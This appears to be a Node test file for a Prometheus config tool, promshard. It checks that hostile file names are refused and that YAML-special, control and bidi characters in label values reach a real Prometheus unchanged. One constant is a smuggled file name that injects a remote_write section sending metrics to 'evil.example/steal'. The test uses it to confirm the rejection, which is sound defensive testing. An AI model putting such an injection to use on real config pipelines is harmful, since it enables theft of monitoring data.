// Issue 10, item 1, end to end: hostile names through validate → render → controller → real
// Prometheus. A file name carrying a line break and a remote_write section is refused by the real
// `promshard validate` (file-name) and never reaches the Prometheus the controller feeds; a label value
// full of YAML-significant characters is legitimate: it validates, renders, passes promtool, is rolled
// out by the controller and shows in Prometheus's own /api/v1/status/config and /api/v1/targets
// byte for byte. Also: a rendered config with control, line-break and bidi characters in label
// values (which only a model, never a team file, can hold) loads into real Prometheus unchanged,
// proving Go's yaml.v2 reads the emitter's escapes as meant.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'yaml';
import { fleetAvailable, startTestFleet, waitFor, type TestFleet } from '../dashboard/helpers.ts';
import { PROMSHARD_BIN } from '../support/fleet.ts';
import { PROMTOOL_BIN, prometheusInstalled, startPrometheus } from '../support/prometheus.ts';
import { renderPrometheusConfig } from '../../core/render/render-prometheus-config.ts';
import type { CompiledShard } from '../../schemas/model.ts';

// No "/" in a file name, so the URL uses YAML escapes.
const HOSTILE_FILE = 'teams/payments/x\nremote_write:\n  - url: "http:\\x2f\\x2fevil.example\\x2fsteal"\n#.yaml';
const VALUE = ` a: b # c "d" 'e' {f} [g] &h *i !j %k @l \`m\` \\n ~ --- ... ? - z: $1 Zürich 東京 😀 `;
const labelsFile = (target: string) => `team: payments
shard: apps
jobs:
  - name: hostile-labels
    targets: ["${target}"]
    labels: { note: ${JSON.stringify(VALUE)}, url: "https://x.example/a?b=c&d=%20#frag", truthy: "yes", num: "010" }
`;

function cli(args: string[]): { status: number | null; out: string } {
  const r = spawnSync('node', [PROMSHARD_BIN, ...args], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
  return { status: r.status, out: r.stdout + r.stderr };
}

async function json<T>(url: string): Promise<T> {
  const res = await fetch(url);
  assert.equal(res.status, 200, url);
  return (await res.json()) as T;
}

type Targets = { data: { activeTargets: { labels: Record<string, string>; discoveredLabels: Record<string, string> }[] } };

describe('hostile names through validate, render, the controller and real Prometheus', { skip: !fleetAvailable() && 'needs /usr/bin/prometheus and /usr/bin/chromium' }, () => {
  let fleet: TestFleet;
  let out: string;

  before(async () => {
    fleet = await startTestFleet({ replicas: 1 });
    out = mkdtempSync(join(tmpdir(), 'promshard-e2e-render-'));
  });
  after(async () => {
    await fleet?.close();
    rmSync(out, { recursive: true, force: true });
  });

  const promUrl = () => fleet.replicas[0]!.prometheusUrl;
  const liveConfig = async () => (await json<{ data: { yaml: string } }>(`${promUrl()}/api/v1/status/config`)).data.yaml;
  // The head moves before the new desired document exists, so wait for the document itself too.
  const applied = (sha: string, holds?: string) =>
    waitFor(`apps/a applied ${sha.slice(0, 8)}`, () => {
      const desired = fleet.controller.state.shards.get('apps')?.desired;
      const a = fleet.controller.state.agents.replicasOf('apps')[0];
      if (!desired || (holds && !desired.files[0]!.content.includes(holds))) return false;
      return fleet.controller.state.repository.head?.sha === sha && a?.applied?.hash === desired.hash && !!a.applied.verified;
    }, 30_000);

  test('validate refuses the hostile file name; the controller never lets it reach Prometheus', async () => {
    await applied(fleet.controller.state.repository.head!.sha);
    fleet.git.write(HOSTILE_FILE, 'team: payments\nshard: apps\njobs:\n  - name: stolen\n    targets: ["127.0.0.1:1"]\n');
    try {
    const v = cli(['validate', '--repo', fleet.git.dir]);
    assert.equal(v.status, 1, v.out);
    // One line per finding: the name's line breaks show as \u000a, so it cannot forge output lines.
    assert.match(v.out, /^\S*teams\/payments\/x\\u000aremote_write:\\u000a {2}- url: \S+\\u000a#\.yaml:1:1: error \[file-name\] file name "x\\nremote_write:.*holds U\+000A LINE FEED \(a line break\) at character 2/m);
    const sha = await fleet.commitAndNotify('hostile file name');
    await waitFor('head compiled and the file refused', () => fleet.controller.state.repository.head?.sha === sha && fleet.controller.state.repository.findings.some((f) => f.ruleId === 'file-name'), 15_000);
    await new Promise((r) => setTimeout(r, 1500)); // give a (wrong) rollout the time to happen
    const yaml = await liveConfig();
    assert.ok(!yaml.includes('evil.example') && !yaml.includes('remote_write') && !yaml.includes('stolen'), yaml);
    for (const doc of fleet.controller.state.shards.values()) for (const f of doc.desired?.files ?? []) assert.ok(!f.content.includes('evil.example') && !f.content.includes('remote_write'), f.content);
    } finally {
      fleet.git.remove(HOSTILE_FILE);
    }
  });

  test('a label value full of YAML-significant characters validates, renders, passes promtool, and Prometheus shows it byte for byte', async () => {
    fleet.git.write('teams/payments/labels.yaml', labelsFile('127.0.0.1:1'));
    const v = cli(['validate', '--repo', fleet.git.dir]);
    assert.equal(v.status, 0, v.out);
    const r = cli(['render', '--repo', fleet.git.dir, '--out', out]);
    assert.equal(r.status, 0, r.out);
    const rendered = readFileSync(join(out, 'apps', 'prometheus.yml'), 'utf8');
    const p = spawnSync(PROMTOOL_BIN, ['check', 'config', '--syntax-only', join(out, 'apps', 'prometheus.yml')], { encoding: 'utf8' });
    assert.equal(p.status, 0, p.stdout + p.stderr);
    assert.equal(parse(rendered, { version: '1.1' }).scrape_configs.find((c: { job_name: string }) => c.job_name === 'hostile-labels').static_configs[0].labels.note, VALUE);

    const sha = await fleet.commitAndNotify('labels with YAML-significant characters');
    await applied(sha, 'job_name: hostile-labels');
    // What Prometheus itself loaded (it re-serialises its configuration with Go's yaml.v2).
    const loaded = parse(await liveConfig(), { version: '1.1' }) as { scrape_configs: { job_name: string; static_configs: { labels: Record<string, string> }[] }[]; remote_write?: unknown };
    assert.equal(loaded.remote_write, undefined);
    const job = loaded.scrape_configs.find((c) => c.job_name === 'hostile-labels');
    assert.ok(job, `the job is loaded: ${JSON.stringify({ repo: { valid: fleet.controller.state.repository.valid, findings: fleet.controller.state.repository.findings, head: fleet.controller.state.repository.head }, desired: fleet.controller.state.shards.get('apps')?.desired?.files[0]?.content })}`);
    assert.deepEqual(job.static_configs[0].labels, { note: VALUE, url: 'https://x.example/a?b=c&d=%20#frag', truthy: 'yes', num: '010', team: 'payments' });
    // And the target carries exactly those labels.
    await waitFor('target listed', async () => (await json<Targets>(`${promUrl()}/api/v1/targets`)).data.activeTargets.some((t) => t.labels.job === 'hostile-labels'), 20_000);
    const t = (await json<Targets>(`${promUrl()}/api/v1/targets`)).data.activeTargets.find((x) => x.labels.job === 'hostile-labels')!;
    assert.equal(t.labels.note, VALUE);
    assert.equal(t.labels.truthy, 'yes');
    assert.equal(t.labels.num, '010');
  });
});

test('real Prometheus loads escaped control, line-break, bidi and astral characters in label values and job names unchanged', { skip: !prometheusInstalled() && 'needs /usr/bin/prometheus' }, async () => {
  const values = ['nel\u0085x', 'ls\u2028ps\u2029', 'rlo\u202Eabc\u202C', 'cr\r\nlf', 'tab\there', 'del\x7f c1\x9b', 'astral 😀𝔘', ' "quoted" \\ back'];
  const shard: CompiledShard = {
    name: 'e2e',
    replicas: 1,
    budget: { max_series: 1, max_targets: 1 },
    externalLabels: { region: 'eu\u202Ewest\u0085' },
    evaluationInterval: '1m',
    interval: '1m',
    timeout: '10s',
    jobs: values.map((v, i) => ({
      name: `job ${i} ${v}`,
      team: 't',
      shard: 'e2e',
      source: { file: `teams/t/${v}.yaml`, line: 1, column: 1 },
      spec: { name: 'x', interval: '1m', timeout: '10s', limits: {} },
      targets: [{ address: `127.0.0.1:${10 + i}`, labels: { v }, source: { file: 'x', line: 1, column: 1 } }],
      cardinality: {} as CompiledShard['jobs'][0]['cardinality'],
    })).sort((a, b) => (a.name < b.name ? -1 : 1)),
  };
  const prom = await startPrometheus({ config: renderPrometheusConfig(shard) });
  try {
    await waitFor('targets listed', async () => (await json<Targets>(`${prom.url}/api/v1/targets`)).data.activeTargets.length === values.length, 20_000);
    const targets = (await json<Targets>(`${prom.url}/api/v1/targets`)).data.activeTargets;
    for (const [i, v] of values.entries()) {
      const t = targets.find((x) => x.labels.job === `job ${i} ${v}`);
      assert.ok(t, `job ${JSON.stringify(`job ${i} ${v}`)} missing: ${JSON.stringify(targets.map((x) => x.labels.job))}`);
      assert.equal(t.labels.v, v);
    }
    const cfg = (await json<{ data: { yaml: string } }>(`${prom.url}/api/v1/status/config`)).data.yaml;
    // Prometheus re-serialises its configuration with Go's yaml.v2 emitter, which writes U+2028 raw inside
    // single quotes (a JS YAML parser then folds it into a space); the targets API above is the
    // authoritative check for line separators, this one for an external label.
    assert.equal((parse(cfg, { version: '1.1' }) as { global: { external_labels: Record<string, string> } }).global.external_labels.region, 'eu\u202Ewest\u0085');
  } finally {
    await prom.destroy();
  }
});
